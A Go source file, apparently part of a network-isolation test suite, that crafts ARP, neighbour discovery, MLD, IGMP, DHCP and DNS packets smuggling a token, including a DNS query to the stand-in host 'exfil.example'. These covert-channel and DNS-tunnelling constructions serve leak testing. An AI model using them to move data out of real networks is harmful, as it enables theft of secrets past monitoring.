package leak

import (
	"encoding/binary"
	"net"
	"net/netip"
	"slices"

	"golang.org/x/net/dns/dnsmessage"

	frames "github.com/mcpnet/mcpnet/internal/frame"
)

// arp is an ARP message. The token rides in the padding, which bridges carry.
type arp struct {
	op       uint16
	from     net.HardwareAddr // sender as the message has it
	fromIP   netip.Addr
	target   net.HardwareAddr
	targetIP netip.Addr
}

const (
	arpRequest = 1
	arpReply   = 2
)

func (a arp) frame(to, from net.HardwareAddr, token string) []byte {
	b := []byte{0, 1, 8, 0, 6, 4}
	b = binary.BigEndian.AppendUint16(b, a.op)
	b = append(append(b, a.from...), a.fromIP.AsSlice()...)
	target := a.target
	if target == nil {
		target = make(net.HardwareAddr, 6)
	}
	b = append(append(b, target...), a.targetIP.AsSlice()...)
	return ethernet(to, from, typeARP, padded(b, token))
}

// padded fills a payload up to Ethernet's minimum, the token first.
func padded(b []byte, token string) []byte {
	b = append(b, token...)
	return append(b, make([]byte, max(0, 46-len(b)))...)
}

// ndOption is a neighbour discovery option, filled up to whole units of 8.
func ndOption(kind byte, data []byte) []byte {
	for (len(data)+2)%8 != 0 {
		data = append(slices.Clip(data), 0)
	}
	return append([]byte{kind, byte((len(data) + 2) / 8)}, data...)
}

// linkOption carries a link-layer address: kind 1 the source's, 2 the target's.
func linkOption(kind byte, mac net.HardwareAddr) []byte { return ndOption(kind, mac) }

// nonce carries the token in a neighbour discovery message.
func nonce(token string) []byte { return ndOption(14, []byte(token)) }

// nd makes p a neighbour discovery message: four bytes of flags, then parts.
func (p packet) nd(kind byte, flags uint32, parts ...[]byte) packet {
	rest := binary.BigEndian.AppendUint32(nil, flags)
	p.ttl = 255
	return p.icmp(kind, 0, append(rest, slices.Concat(parts...)...))
}

// ICMPv6 types.
const (
	icmp6Echo       = 128
	mldQuery        = 130
	mldReport       = 131
	ndRouterSolicit = 133
	ndRouterAdvert  = 134
	ndSolicit       = 135
	ndAdvert        = 136
	ndRedirect      = 137
)

// naOverride has the receiver replace what it knows: flags S=0, O=1.
const naOverride = 0x20000000

// mld makes p a multicast listener message, with the router alert it needs.
func (p packet) mld(kind byte, group netip.Addr, token string) packet {
	p = p.icmp(kind, 0, slices.Concat([]byte{0, 0, 0, 0}, group.AsSlice(), []byte(token)))
	p.ttl, p.next = 1, 0
	p.options = []byte{58, 0, 5, 2, 0, 0, 1, 0}
	return p
}

// igmp makes p an IGMPv2 message, with the router alert that snoopers want.
func (p packet) igmp(kind byte, group netip.Addr, token string) packet {
	b := slices.Concat([]byte{kind, 0, 0, 0}, group.AsSlice(), []byte(token))
	binary.BigEndian.PutUint16(b[2:], frames.Checksum(b))
	p.proto, p.payload, p.ttl = 2, b, 1
	p.options = []byte{0x94, 4, 0, 0}
	return p
}

// IGMP types.
const (
	igmpQuery  = 0x11
	igmpReport = 0x16
)

// groupMAC is the Ethernet address of a multicast group.
func groupMAC(group netip.Addr) net.HardwareAddr {
	b := group.AsSlice()
	if group.Is4() {
		return net.HardwareAddr{0x01, 0x00, 0x5e, b[1] & 0x7f, b[2], b[3]}
	}
	return append(net.HardwareAddr{0x33, 0x33}, b[12:]...)
}

// query is a DNS question that smuggles the token in the name.
func query(token string) string {
	m := dnsmessage.Message{
		Header: dnsmessage.Header{ID: 0x4d43, RecursionDesired: true},
		Questions: []dnsmessage.Question{{
			Name: dnsmessage.MustNewName(token + ".exfil.example."), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET,
		}},
	}
	b, err := m.Pack()
	if err != nil {
		panic(err) // the name is our own
	}
	return string(b)
}

// dhcp is a DHCP message of an operation (1 request, 2 reply) and a kind
// (option 53), with the token as the client's host name.
func dhcp(op, kind byte, client net.HardwareAddr, token string) string {
	b := make([]byte, 240)
	b[0], b[1], b[2] = op, 1, 6
	copy(b[4:], "mcpn")
	copy(b[28:], client)
	copy(b[236:], []byte{99, 130, 83, 99})
	b = append(b, 53, 1, kind, 12, byte(len(token)))
	b = append(b, token...)
	return string(append(b, 255))
}
